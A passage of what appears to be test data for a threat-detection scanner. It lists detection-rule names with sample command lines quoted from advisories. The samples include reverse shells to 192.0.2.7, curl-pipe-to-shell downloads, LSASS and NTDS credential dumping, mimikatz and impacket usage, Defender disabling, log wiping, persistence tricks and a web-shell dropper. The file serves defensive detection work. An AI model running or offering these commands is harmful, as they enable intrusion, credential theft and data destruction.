        ("a.sql", "EXEC master..xp_cmdshell 'dir d:\\backup';\r\n")),
    "lotl_name_with_carets": (
        ("a.log", "cmd /c c^e^r^t^u^t^i^l -urlcache x\r\n"),
        ("a.log", "cmd /c echo a ^& certutil -hashfile a.exe ^\r\n")),
    "reverse_shell_in_audit_record": (
        ("audit.log", audit(["bash", "-c", "bash -i >& /dev/tcp/192.0.2.7/443 0>&1"])),
        ("audit.log", audit(["bash", "-c", "echo > /dev/tcp/127.0.0.1/22"]) + audit(["nc", "-z", "192.0.2.7", "443"]))),
    "lotl_in_audit_record": (
        ("audit.log", audit(["sh", "-c", "echo aWQK | base64 -d | sh"])),
        ("audit.log", audit(["sh", "-c", "echo aWQK | base64 -d | sha1sum"]) + audit(["ls", "-l", "/dev/shm/x"]) +
                      audit(["cat", "/etc/ld.so.preload"]))),
    "implant_lazarus_command": (
        ("h", "curl http://192.0.2.7:1224/client/5346 -o /tmp/.npl && python3 /tmp/.npl\n"),
        ("h", "curl http://192.0.2.7:1224/status -o /tmp/s && python3 /tmp/s.py\nrundll32.exe shell32.dll,Control_RunDLL desk.cpl\n")),
    "implant_update_by_pasted_command": (
        ("h", "nohup curl -L https://d.example/fix.zip -o /tmp/fix.zip && unzip -o /tmp/fix.zip -d /tmp/fix && bash /tmp/fix/u.sh &\n"),
        ("h", "curl -L https://d.example/tool.zip -o tool.zip && unzip tool.zip && bash install.sh\n")),
    "implant_cobalt_strike_pipe": (
        ("a.evtx", wide("PipeName: \\msagent_8f")),
        ("a.evtx", wide("PipeName: \\mojo.1234.5678\r\n\\\\.\\pipe\\msagent"))),
    "tunnel_frp_command_named_by_advisory": (
        ("a.evtx", wide("C:\\Users\\Public\\BrightmetricAgent.exe -c frpc.ini")),
        ("a.evtx", wide("C:\\Program Files\\Brightmetrics\\BrightmetricsAgent.exe -c agent.ini"))),
    "tunnel_gsocket": (
        ("h", "gs-netcat -s SecretHere -l -i\n"),
        ("h", "apt install gsocket\ngs-netcat --help\n")),
    "tunnel_3proxy_command": (
        ("a.log", "c:\\perflogs\\3proxy.exe c:\\perflogs\\3proxy.cfg\r\n"),
        ("h", "/usr/bin/3proxy /etc/3proxy/3proxy.cfg\n")),
    "persistence_cron_decoded": (
        ("root", "*/5 * * * * echo Y3VybCAxOTIuMC4yLjcvYQ== | base64 -d | sh\n"),
        ("root", "*/5 * * * * base64 -d /srv/in/x > /srv/out/x\n")),
    "persistence_authorized_key_echoed": (
        ("h", 'echo "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABgQDEx x@y" >> /root/.ssh/authorized_keys\n'),
        ("h", 'echo "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABgQDEx x@y" > key.pub; ssh-copy-id -i key.pub h; cat ~/.ssh/authorized_keys\n')),
    "persistence_authorized_key_by_service": (
        ("h", "echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAA x' >> /var/www/.ssh/authorized_keys\n"),
        ("h", "redis-cli config set dir /var/lib/redis\n")),
    "credential_cloud_metadata_asked": (
        ("h", "curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/web\n"),
        ("h", "curl -s http://169.254.169.254/latest/meta-data/instance-id\n")),
}

# As advisories and reports quote them: each is looked for in text, and in UTF-16 as Windows logs have it.
QUOTED = [
    ("credential_ntds_copy_command", 'cmd.exe /C "ntdsutil "ac i ntds" ifm "create full C:\\Windows\\Temp\\pro" q q"'),
    ("credential_ntds_copy_command", 'wmic process call create "ntdsutil \\"ac i ntds\\" ifm \\"create full C:\\Windows\\Temp\\pro\\" q q"'),
    ("credential_wmic_remote_process", 'wmic process call create "ntdsutil \\"ac i ntds\\" ifm \\"create full C:\\Windows\\Temp\\pro\\" q q"'),
    ("credential_ntds_copy_command", 'wmic process call create "cmd.exe /c ntdsutil \\"ac i ntds\\" ifm \\"create full C:\\Windows\\Temp\\Pro\\""'),
    ("credential_wmic_remote_process", 'wmic process call create "cmd.exe /c ntdsutil \\"ac i ntds\\" ifm \\"create full C:\\Windows\\Temp\\Pro\\""'),
    ("credential_ntds_copy_command", 'wmic process call create "cmd.exe /c mkdir C:\\Windows\\Temp\\tmp & ntdsutil \\"ac i ntds\\" ifm \\"create full C:\\Windows\\Temp\\tmp\\""'),
    ("credential_wmic_remote_process", 'wmic process call create "cmd.exe /c mkdir C:\\Windows\\Temp\\tmp & ntdsutil \\"ac i ntds\\" ifm \\"create full C:\\Windows\\Temp\\tmp\\""'),
    ("credential_ntds_copy_command", '"cmd.exe" /c wmic process call create "cmd.exe /c mkdir C:\\users\\public\\documents\\tmp & ntdsutil \\"ac i ntds\\" ifm \\"create full c:\\users\\public\\documents\\tmp\\" q q"'),
    ("credential_wmic_remote_process", '"cmd.exe" /c wmic process call create "cmd.exe /c mkdir C:\\users\\public\\documents\\tmp & ntdsutil \\"ac i ntds\\" ifm \\"create full c:\\users\\public\\documents\\tmp\\" q q"'),
    ("credential_ntds_copy_command", 'ntdsutil.exe "activate instance ntds" "ifm" "create full c:\\temp\\x" quit quit'),
    ("credential_ntds_copy_command", 'ntdsutil snapshot "activate instance ntds" create quit quit'),
    ("credential_shadow_copy_made", 'cmd.exe /c "C:\\Windows\\System32\\vssadmin.exe create shadow /for=C: 1> \\\\127.0.0.1\\ADMIN$\\__1684956600.123456 2>&1"'),
    ("credential_shadow_copy_made", 'wmic process call create "cmd /c vssadmin create shadow /for=C: > C:\\Windows\\Temp\\<filename>"'),
    ("credential_ntds_copy_command", "cmd /c copy \\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy3\\Windows\\NTDS\\ntds.dit C:\\Windows\\Temp > C:\\Windows\\Temp\\1.tmp"),
    ("credential_hives_from_shadow_copy", "cmd.exe /c copy \\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy1\\Windows\\System32\\config\\SYSTEM C:\\Users\\Public"),
    ("credential_registry_hives_command", "reg save hklm\\sam ss.dat"),
    ("credential_registry_hives_command", "reg save hklm\\system sy.dat"),
    ("credential_registry_hives_command", "reg.exe save HKLM\\SECURITY c:\\windows\\temp\\se.dat /y"),
    ("tunnel_netsh_portproxy", 'cmd.exe /c "netsh interface portproxy add v4tov4 listenaddress=0.0.0.0 listenport=9999 connectaddress=10.0.0.1 connectport=8443 protocol=tcp"'),
    ("tunnel_netsh_portproxy", "netsh interface portproxy delete v4tov4 listenport=9999"),
    ("tunnel_netsh_portproxy", "netsh interface portproxy add v4tov4 listenport=50100 listenaddress=0.0.0.0 connectport=1433 connectaddress=10.0.0.9"),
    ("lotl_disk_query", 'cmd.exe /C "wmic path win32_logicaldisk get caption,filesystem,freespace,size,volumename"'),
    ("credential_impacket_trace", "cmd.exe /Q /c cd \\ 1> \\\\127.0.0.1\\ADMIN$\\__1684956600.6216 2>&1"),
    ("credential_impacket_trace", 'cmd.exe /Q /c net group "Domain Admins" /dom 1> \\\\127.0.0.1\\ADMIN$\\__1684956700.51 2>&1'),
    ("credential_lsass_dump_other", "cmd.exe /Q /c powershell -exec bypass -W hidden -nop -E cgB1AG4AZABsAGwAMwAyAC4AZQB4AGUAIABDADoAXAB3AGkAbgBkAG8AdwBzAFwAUwB5AHMAdABlAG0AMwAyAFwAYwBvAG0AcwB2AGMAcwAuAGQAbABsACwAIABNAGkAbgBpAEQAdQBtAHAAIAA2ADIANAAgAEMAOgBcAHcAaQBuAGQAbwB3AHMAXAB0AGUAbQBwAFwAdgBtAHcAYQByAGUALQB2AGgAbwBzAHQALgBkAG0AcAAgAGYAdQBsAGwA"),
    ("lotl_powershell_hidden_encoded", "cmd.exe /Q /c powershell -exec bypass -W hidden -nop -E cgB1AG4AZABsAGwAMwAyAC4AZQB4AGUAIABDADoAXAB3AGkAbgBkAG8AdwBzAFwAUwB5AHMAdABlAG0AMwAyAFwAYwBvAG0AcwB2AGMAcwAuAGQAbABsACwAIABNAGkAbgBpAEQAdQBtAHAAIAA2ADIANAAgAEMAOgBcAHcAaQBuAGQAbwB3AHMAXAB0AGUAbQBwAFwAdgBtAHcAYQByAGUALQB2AGgAbwBzAHQALgBkAG0AcAAgAGYAdQBsAGwA"),
    ("credential_lsass_dump_command", "rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 552 C:\\windows\\temp\\vmware-vhost.dmp full"),
    ("credential_lsass_dump_command", "rundll32 C:\\Windows\\System32\\comsvcs.dll MiniDump 624 lsass.dmp full"),
    ("credential_lsass_dump_command", "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, #24 624 C:\\l.dmp full"),
    ("credential_lsass_dump_command", 'powershell "rundll32 C:\\windows\\system32\\comsvcs.dll, MiniDump (Get-Process lsass).id c:\\l.dmp full"'),
    ("lotl_directory_export", 'cmd.exe /c "ldifde.exe -f c:\\windows\\temp\\cisco_up.txt -p subtree"'),
    ("lotl_directory_export", "dnscmd . /enumrecords /zone corp.example . /additional"),
    ("lotl_directory_export", "dnscmd . /enumzones"),
    ("lotl_archive_of_loot", "7z.exe a -p MyPass c:\\windows\\temp\\out.7z c:\\windows\\temp\\ntds\\*"),
    ("lotl_archive_of_loot", "7z.exe a -p{REDACTED} c:\\windows\\temp\\out.7z"),
    ("lotl_archive_of_loot", "rar.exe a -hpPass -v500m c:\\users\\public\\out.rar c:\\users\\public\\documents"),
    ("lotl_archive_of_loot", 'cmd.exe /c "makecab C:\\Windows\\Temp\\pro\\ntds.dit C:\\Windows\\Temp\\n.cab"'),
    ("credential_stored_session_query", "reg query hklm\\software\\OpenSSH"),
    ("credential_stored_session_query", "reg query hklm\\software\\OpenSSH\\Agent"),
    ("credential_stored_session_query", "reg query hklm\\software\\realvnc"),
    ("credential_stored_session_query", "reg query hklm\\software\\realvnc\\vncserver"),
    ("credential_stored_session_query", "reg query hklm\\software\\realvnc\\Allusers\\vncserver"),
    ("credential_stored_session_query", "reg query hkcu\\software\\administrator\\putty\\session"),
    ("lotl_logon_log_query", 'cmd.exe /c "wevtutil qe security /rd:true /f:text /q:*[System[(EventID=4624) and TimeCreated[@SystemTime>=\'2024-01-01T00:00:00\']] and EventData[Data=\'admin\']]"'),
    ("lotl_event_log_cleared", "wevtutil.exe cl System"),
    ("lotl_logon_log_query", "Get-EventLog security -instanceid 4624 -after 2023-01-01 | fl * | Out-File 'C:\\users\\public\\documents\\user.dat'"),
    ("lotl_logon_log_query", 'Get-EventLog security -instanceid 4624 -After ((Get-date).AddDays(-7)) | Where-Object {$_.Message -like "*admin*"} | Export-Csv c:\\windows\\temp\\u.csv'),
    ("credential_wmic_remote_process", 'wmic /node:10.0.0.5 /user:admin /password:pw process call create "cmd.exe /c ipconfig"'),
    ("credential_wmic_remote_process", 'wmic /node:"10.0.0.5" process call create "cmd /c c:\\windows\\temp\\1.bat"'),
    ("lotl_download_by_system_tool", 'cmd.exe /c "powershell Start-BitsTransfer -Source http://192.0.2.7/a.exe -Destination c:\\windows\\temp\\a.exe"'),
    ("lotl_download_by_system_tool", "certutil -urlcache -f -split http://192.0.2.7/nc.exe C:\\Users\\Public\\nc.exe"),
    ("webshell_dropper_command", "certutil.exe -decode c:\\windows\\temp\\a.txt c:\\inetpub\\wwwroot\\a.aspx"),
    ("lotl_download_by_system_tool", "bitsadmin /transfer job /download /priority high http://192.0.2.7/x c:\\x.exe"),
    ("lotl_powershell_download", 'powershell.exe -nop -w hidden -c "IEX ((new-object net.webclient).downloadstring(\'http://192.0.2.7:80/a\'))"'),
    ("lotl_scheduled_task_from_temporary", 'schtasks /create /sc minute /mo 5 /tn "Updater" /tr "C:\\ProgramData\\u.exe" /ru SYSTEM /f'),
    ("credential_lsass_dump_command", "procdump.exe -accepteula -ma lsass.exe c:\\windows\\temp\\l.dmp"),
    ("credential_lsass_dump_other", 'tasklist /svc /fi "imagename eq lsass.exe"'),
    ("tunnel_plink_reverse", "plink.exe -ssh -l user -pw pass -R 3390:127.0.0.1:3389 192.0.2.7"),
    ("tunnel_plink_reverse", "echo y | plink.exe -N -R 4000:127.0.0.1:3389 -P 443 -l u -pw p 192.0.2.7"),
    ("credential_mimikatz", 'mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" exit'),
    ("credential_mimikatz", "mimikatz.exe privilege::debug token::elevate lsadump::secrets exit"),
    ("credential_impacket_command", "secretsdump.py -system SYSTEM -ntds ntds.dit LOCAL"),
    ("credential_impacket_command", "python3 wmiexec.py corp/admin:pass@10.0.0.5"),
    ("credential_impacket_command", "impacket-psexec corp.local/admin@10.0.0.5 -hashes :31d6cfe0d16ae931b73c59d7e0c089c0"),
    ("credential_impacket_command", "GetUserSPNs.py corp.local/user:pass -dc-ip 10.0.0.1 -request"),
    ("credential_rubeus_command", "Rubeus.exe kerberoast /outfile:h.txt"),
    ("lotl_shadow_copies_deleted", "vssadmin delete shadows /all /quiet"),
    ("lotl_shadow_copies_deleted", "fsutil usn deletejournal /D C:"),
    ("lotl_shadow_copies_deleted", "bcdedit /set {default} recoveryenabled No"),
    ("tunnel_go_command", "frpc.exe -c frpc.ini"),
    ("tunnel_go_command", "./frpc -c ./frpc.toml"),
    ("tunnel_go_command", "chisel.exe client 192.0.2.7:443 R:1080:socks"),
    ("tunnel_go_command", "./ligolo-agent -connect 192.0.2.7:11601 -ignore-cert"),
    ("tunnel_earthworm_command", "ew -s rssocks -d 192.0.2.7 -e 8888"),
    ("tunnel_earthworm_command", "./ew_for_linux64 -s ssocksd -l 1080"),
    ("tunnel_earthworm_command", "./ew -s lcx_slave -d 192.0.2.7 -e 443 -f 127.0.0.1 -g 22"),
    ("tunnel_go_command", "./iox fwd -r 127.0.0.1:22 -r 192.0.2.7:9999"),
    ("tunnel_go_command", "gost -L=socks5://:1080"),
    ("tunnel_go_command", "gost -L=:8080 -F=socks5+wss://192.0.2.7:443"),
    ("tunnel_go_command", "./stowaway_agent -c 192.0.2.7:9999 -s hack --reconnect 8"),
    ("tunnel_regeorg_command", "./neoreg.py -k password -u http://192.0.2.7/tunnel.php"),
    ("tunnel_regeorg_command", "python neoreg.py generate -k pass"),
    ("reverse_shell_dev_tcp", "bash -c {echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMC4yLjcvNDQzIDA+JjE=}|{base64,-d}|{bash,-i}"),
    ("tunnel_softether_command", 'sc.exe create SysMon binPath= "C:\\Windows\\System32\\conhost.exe /service" start= auto'),
    ("credential_psexec_command", "PsExec.exe \\\\10.0.0.5 -s cmd.exe"),
    ("credential_psexec_command", "psexec64.exe -accepteula \\\\10.0.0.5 -u corp\\admin -p pw cmd"),
    ("lotl_firewall_off", 'netsh advfirewall firewall add rule name="x" dir=in action=allow protocol=TCP localport=9999'),
    ("lotl_defender_off", "reg add HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender /v DisableAntiSpyware /t REG_DWORD /d 1 /f"),
    ("lotl_defender_off", "powershell Set-MpPreference -DisableRealtimeMonitoring $true"),
    ("lotl_defender_off", 'Add-MpPreference -ExclusionPath "C:\\ProgramData"'),
    ("webshell_dropper_command", 'echo ^<%@ Page Language="Jscript"%^>^<%eval(Request.Item["x"],"unsafe");%^> > C:\\inetpub\\wwwroot\\x.aspx'),
    ("lotl_adfind", "adfind.exe -f objectcategory=computer"),
    ("lotl_download_by_system_tool", "regsvr32 /s /n /u /i:http://192.0.2.7/a.sct scrobj.dll"),
    ("lotl_download_by_system_tool", "mshta http://192.0.2.7/a.hta"),
    ("lotl_program_runs_another", 'rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication ";document.write();'),
    ("credential_mimikatz", "sekurlsa::minidump lsass.dmp"),
    ("credential_domain_attack_command", "SharpHound.exe -c All"),
    ("credential_domain_attack_command", "certipy find -u u@corp -p p -dc-ip 10.0.0.1"),
    ("tunnel_public_relay", "ssh -R 80:localhost:22 serveo.net"),
    ("tunnel_ngrok", "ngrok tcp 3389"),
    ("tunnel_dns", "dnscat2-client --dns domain=x.example"),
    ("tunnel_public_relay", "tailscale up --authkey tskey-auth-x"),
    ("credential_impacket_command", "proxychains4 -q secretsdump.py corp/admin@10.0.0.5"),
    ("lotl_event_log_cleared", "wevtutil cl Application"),
    ("lotl_event_log_cleared", "Clear-EventLog -LogName Security"),
    ("lotl_event_log_cleared", "Remove-Item (Get-PSReadlineOption).HistorySavePath"),
    ("lotl_adfind", 'dsquery * -filter "(objectclass=user)" -attr * -limit 0'),
    ("credential_registry_hives_command", "reg export HKLM\\sam c:\\windows\\temp\\sam"),
    ("credential_registry_hives_command", "esentutl.exe /y /vss c:\\windows\\system32\\config\\SAM /d c:\\windows\\temp\\SAM"),
    ("credential_hives_from_shadow_copy", 'certutil -f -v -encodehex "\\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy%a\\Windows\\System32\\config\\SAM" c:\\windows\\temp\\s 2'),
    ("credential_shadow_copy_made", "(gwmi -list win32_shadowcopy).Create('C:\\','ClientAccessible')"),
    ("credential_lsass_dump_command", "procdump.exe -accepteula -mm lsass.exe C:\\Windows\\Temp\\l.dmp"),
    ("lotl_shadow_copies_deleted", "Get-WmiObject Win32_Shadowcopy | ForEach-Object {$_.Delete();}"),
    ("lotl_shadow_copies_deleted", "wbadmin delete systemstatebackup -keepVersions:0"),
    ("lotl_shadow_copies_deleted", "vssadmin resize shadowstorage /For=C: /On=C: /MaxSize=401MB"),
    ("persistence_windows_library", 'Set-ItemProperty "HKLM:\\Software\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon\\" "Userinit" "Userinit.exe, C:\\ProgramData\\u.exe" -Force'),
    ("credential_rubeus_command", "setspn -T corp.example -Q */*"),
    ("credential_rubeus_command", 'New-Object System.IdentityModel.Tokens.KerberosRequestorSecurityToken -ArgumentList "http/web"'),
    ("lotl_consent_bypassed", "reg.exe ADD HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Policies\\System /v EnableLUA /t REG_DWORD /d 0 /f"),
    ("lotl_consent_bypassed", 'mkdir "\\\\?\\C:\\Windows \\System32\\"'),
    ("persistence_service_temporary", 'sc.exe create "WerFaultSvc" binPath= "c:\\windows\\WinSxS\\x86_microsoft-windows-errorreportingfaults\\WerFault.exe" DisplayName= "WerFault Service"'),
    ("persistence_service_temporary", "sc.exe sdset scmanager D:(A;;KA;;;WD)"),
    ("credential_psexec_command", "C:\\Users\\Public\\PsExec.exe -i -s cmd -accepteula"),
    ("credential_psexec_command", "remcom.exe \\\\10.0.0.5 /user:Administrator /pwd:x cmd.exe"),
    ("credential_domain_attack_command", "evil-winrm -i 10.0.0.5 -u admin -H 31d6cfe0d16ae931b73c59d7e0c089c0"),
    ("credential_domain_attack_command", "Responder.py -I eth0"),
    ("credential_domain_attack_command", "kerbrute_linux_amd64 userenum -d corp.example users.txt"),
    ("credential_domain_attack_command", "bloodhound-python -u u -p p -d corp.example -c All"),
    ("credential_impacket_command", "ntlmrelayx.py -t ldap://10.0.0.1 -smb2support"),
    ("credential_iis_password_command", "appcmd.exe list apppool /text:processmodel.password"),
    ("credential_iis_password_command", 'aspnet_regiis.exe -pdf "connectionStrings" c:\\inetpub\\wwwroot'),
    ("credential_wmic_remote_process", 'cscript //nologo & echo 1 & wmic /node:10.0.0.5 process call create "cmd /c c:\\perflogs\\1.bat"'),
    ("lotl_mailbox_export", 'New-MailboxExportRequest -Mailbox a -FilePath "\\\\127.0.0.1\\C$\\inetpub\\wwwroot\\aspnet_client\\a.aspx"'),
    ("lotl_firewall_off", "netsh advfirewall set allprofiles state off"),
    ("lotl_remote_login_eased", "reg add HKLM\\SYSTEM\\CurrentControlSet\\Control\\Lsa /v DisableRestrictedAdmin /t REG_DWORD /d 0 /f"),
    ("persistence_remote_desktop_opened", 'reg add "HKLM\\SYSTEM\\CurrentControlSet\\Control\\Terminal Server" /v fDenyTSConnections /t REG_DWORD /d 0 /f'),
    ("persistence_login_screen_debugger", "copy /y c:\\windows\\system32\\cmd.exe c:\\windows\\system32\\sethc.exe"),
    ("tunnel_htran", "lcx.exe -slave 192.0.2.7 443 127.0.0.1 3389"),
    ("exploit_windows_token_tool", 'GodPotato.exe -cmd "cmd /c whoami"'),
    ("recon_fscan", "fscan64.exe -h 10.0.0.0/24 -o r.txt"),
    ("tunnel_remote_desktop_unattended", "AnyDesk.exe --install C:\\ProgramData\\AnyDesk --start-with-win --silent"),
    ("lotl_download_to_public_folder", 'powershell -c "iwr http://192.0.2.7:8080/x.exe -o C:\\Windows\\Temp\\x.exe"'),
    ("lotl_download_to_public_folder", "curl.exe -o C:\\ProgramData\\x.dll http://192.0.2.7/x.dll"),
    ("lotl_download_to_public_folder", 'curl.exe -s "http://192.0.2.7/x.exe" -o "C:\\Users\\Public\\x.exe"'),
    ("lotl_download_to_public_folder", "Invoke-WebRequest 'http://192.0.2.7/x.exe' -OutFile $env:TEMP\\x.exe"),
    ("lotl_download_to_public_folder", "(New-Object Net.WebClient).DownloadFile('http://192.0.2.7/x.exe','C:\\Windows\\Temp\\x.exe')"),
    ("lotl_defender_off", 'Add-MpPreference -ExclusionProcess "C:\\Windows\\Temp\\x.exe"'),
    ("lotl_defender_off", "Add-MpPreference -ExclusionProcess powershell.exe"),
    ("lotl_defender_off", "powershell Set-MpPreference -ExclusionPath C:\\Users\\Public"),
    ("lotl_defender_off", "Add-MpPreference -Force -ExclusionPath 'C:\\'"),
    ("lotl_defender_off", "Add-MpPreference -ExclusionExtension .exe"),
    ("lotl_defender_off", "Set-MpPreference -DisableRealtimeMonitoring:$true"),
    ("lotl_defender_off", 'reg add "HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Exclusions\\Paths" /v C:\\ /t REG_DWORD /d 0 /f'),
    ("lotl_defender_exclusion", "Set-MpPreference -ExclusionPath E:\\Backup"),
    ("lotl_defender_exclusion", "Add-MpPreference -ExclusionProcess sqlservr.exe"),
    ("lotl_sql_shell_enabled", "EXEC sp_configure 'show advanced options', 1; RECONFIGURE; EXEC sp_configure 'xp_cmdshell', 1; RECONFIGURE;"),
    ("lotl_sql_shell_used", "exec xp_cmdshell 'powershell -nop -c x'"),
    ("lotl_sql_shell_used", 'EXECUTE master.dbo.xp_cmdshell "certutil -f x"'),
    ("lotl_name_with_carets", "w^m^i^c process call create x"),
    ("lotl_name_with_carets", "p^o^w^e^r^s^h^e^l^l -nop"),
    ("lotl_name_with_carets", "cmd /c po^w^ershe^ll -nop"),
    ("lotl_rclone_exfiltration", 'rclone.exe copy "\\\\fs1\\finance" mega:data -q --ignore-existing --auto-confirm --multi-thread-streams 12 --transfers 12'),
    ("lotl_rclone_exfiltration", "rclone --config C:\\Users\\Public\\r.conf copy d:\\data r:x"),
    ("lotl_packed_text_to_shell", "python -c \"exec(__import__('base64').b64decode(__import__('codecs').getencoder('utf-8')('aW1wb3J0IG9z')[0]))\""),
    ("implant_lazarus_command", 'rundll32.exe "C:\\ProgramData\\ThumbNail\\thumbnail.db", CtrlPanel S-6-81-3811-75432205-060098-6872 0 0 905'),
    ("implant_lazarus_command", "rundll32 x.bin,CtrlPanel S-6-81-3811-75432205-060098-6872"),
    ("implant_lazarus_command", "curl -Lo C:\\Users\\a\\.npl http://192.0.2.7:1224/client/99"),
    ("implant_cobalt_strike_pipe", "\\\\.\\pipe\\msagent_89"),
    ("implant_cobalt_strike_pipe", "\\\\.\\pipe\\MSSE-1676-server"),
    ("tunnel_frp_command_named_by_advisory", "BrightmetricAgent.exe -c C:\\Windows\\Temp\\frpc.ini"),
    ("tunnel_frp_command_named_by_advisory", "C:\\Users\\Public\\SMSvcService.exe"),
    ("tunnel_3proxy_command", "3proxy.exe 3proxy.cfg"),
    ("credential_cloud_metadata_asked", "curl -H \"X-aws-ec2-metadata-token: $T\" http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    ("credential_cloud_metadata_asked", 'Invoke-RestMethod -Headers @{Metadata="true"} -Uri http://169.254.169.254/metadata/identity/oauth2/token'),
]

# The same for Unix and devices: text only.
QUOTED_PLAIN = [
    ("tunnel_socat_relay", "socat TCP4-LISTEN:8080,fork TCP4:10.0.0.5:80"),
    ("reverse_shell_netcat", "nc -e /bin/bash 192.0.2.7 443"),
    ("reverse_shell_netcat", "nc 192.0.2.7 443 -e /bin/sh"),
    ("reverse_shell_netcat", "ncat --exec /bin/bash -lvp 4444"),
    ("reverse_shell_netcat", "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 192.0.2.7 4444 >/tmp/f"),
    ("reverse_shell_dev_tcp", "bash -c 'bash -i >& /dev/tcp/192.0.2.7/443 0>&1'"),
    ("lotl_packed_text_to_shell", "bash -c {echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMC4yLjcvNDQzIDA+JjE=}|{base64,-d}|{bash,-i}"),
    ("reverse_shell_dev_tcp", "0<&196;exec 196<>/dev/tcp/192.0.2.7/443; sh <&196 >&196 2>&196"),
    ("reverse_shell_dev_tcp", "exec 5<>/dev/tcp/192.0.2.7/443; while read line 0<&5; do $line 2>&5 >&5; done"),
    ("reverse_shell_script_language", 'python3 -c \'import socket,os,pty;s=socket.socket();s.connect(("192.0.2.7",443));[os.dup2(s.fileno(),f) for f in(0,1,2)];pty.spawn("/bin/sh")\''),
    ("reverse_shell_script_language", 'perl -e \'use Socket;$i="192.0.2.7";$p=443;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");};\''),
    ("reverse_shell_script_language", 'php -r \'$sock=fsockopen("192.0.2.7",443);exec("/bin/sh -i <&3 >&3 2>&3");\''),
    ("reverse_shell_script_language", 'ruby -rsocket -e\'f=TCPSocket.open("192.0.2.7",443).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)\''),
    ("reverse_shell_netcat", "socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:192.0.2.7:443"),
    ("bind_shell_command", "socat TCP-LISTEN:4444,reuseaddr,fork EXEC:/bin/bash"),
    ("reverse_shell_netcat", "openssl s_client -quiet -connect 192.0.2.7:443 | /bin/sh 2>&1 | openssl s_client -quiet -connect 192.0.2.7:444"),
    ("reverse_shell_netcat", "mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 192.0.2.7:443 > /tmp/s"),
    ("persistence_preload_command", "echo '/lib/libx.so' > /etc/ld.so.preload"),
    ("persistence_preload_command", "echo /usr/lib/.x/lib.so >> /etc/ld.so.preload"),
    ("lotl_fetch_from_address", "curl -fsSL http://192.0.2.7/a.sh | bash"),
    ("lotl_fetch_from_address", "wget -q -O - http://192.0.2.7/a.sh | sh"),
    ("lotl_fetch_from_address", '(crontab -l; echo "*/5 * * * * curl http://192.0.2.7/a | sh") | crontab -'),
    ("persistence_cron_command", '(crontab -l; echo "*/5 * * * * curl http://192.0.2.7/a | sh") | crontab -'),
    ("persistence_cron_command", 'echo "* * * * * root /tmp/.x" >> /etc/crontab'),
    ("persistence_second_root", "useradd -o -u 0 -g 0 -M -d /root -s /bin/bash support"),
    ("persistence_second_root", "echo 'x:$1$abc$def:0:0::/root:/bin/bash' >> /etc/passwd"),
    ("persistence_sudoers_service_account", 'sudo -u root vi /etc/sudoers; echo "www-data ALL=(ALL) NOPASSWD:ALL" >> /etc/sudoers'),
    ("persistence_module_from_temporary", "insmod ./diamorphine.ko"),
    ("lotl_hidden_capture", "tcpdump -i eth0 -w /tmp/.c.pcap port 21 or port 110"),
    ("credential_shadow_copy_out", "cat /etc/passwd /etc/shadow > /tmp/.p"),
    ("lotl_hidden_program_started", "setsid /dev/shm/.x >/dev/null 2>&1 &"),
    ("webshell_aspx_request", 'echo ^<%@ Page Language="Jscript"%^>^<%eval(Request.Item["x"],"unsafe");%^> > C:\\inetpub\\wwwroot\\x.aspx'),
    ("persistence_esxi_host", "esxcli network firewall set --enabled false"),
    ("edge_salt_typhoon_command", "monitor capture CAP interface gi0/0 both match ipv4 protocol tcp any any eq 49"),
    ("edge_cisco_guest_shell", "guestshell run bash"),
    ("recon_linux_privilege_script", "./pspy64"),
    ("recon_linux_privilege_script", "./linpeas.sh"),
    ("tunnel_dns", "iodine -f -P pw t.example.com"),
    ("lotl_linux_log_wiped", "rm -rf /var/log/wtmp /var/log/btmp"),
    ("lotl_linux_log_wiped", "echo > /var/log/secure; echo > /var/log/messages"),
    ("lotl_linux_log_wiped", "sed -i '/192.0.2.7/d' /var/log/auth.log"),
    ("edge_startup_variable", 'nvram set rc_startup="wget http://192.0.2.7/x -O /tmp/x"'),
    ("lotl_fetch_from_address", "busybox wget http://192.0.2.7/mips -O /tmp/m; chmod 777 /tmp/m; /tmp/m"),
    ("reverse_shell_script_language", 'export RHOST="192.0.2.7";export RPORT=443;python -c \'import socket,os,pty;s=socket.socket();s.connect((os.getenv("RHOST"),int(os.getenv("RPORT"))));[os.dup2(s.fileno(),fd) for fd in (0,1,2)];pty.spawn("/bin/sh")\''),
    ("reverse_shell_script_language", 'python -c \'import socket,subprocess;s=socket.socket();s.connect(("192.0.2.7",443));subprocess.call(["/bin/sh","-i"],stdin=s.fileno(),stdout=s.fileno(),stderr=s.fileno())\''),
    ("reverse_shell_script_language", 'python -c \'a=__import__;s=a("socket");o=a("os").dup2;p=a("pty").spawn;c=s.socket(s.AF_INET,s.SOCK_STREAM);c.connect(("192.0.2.7",443));f=c.fileno;o(f(),0);o(f(),1);o(f(),2);p("/bin/sh")\''),
    ("reverse_shell_script_language", 'python.exe -c "import socket,os,threading,subprocess as sp;p=sp.Popen([\'cmd.exe\'],stdin=sp.PIPE,stdout=sp.PIPE,stderr=sp.STDOUT);s=socket.socket();s.connect((\'192.0.2.7\',443))"'),
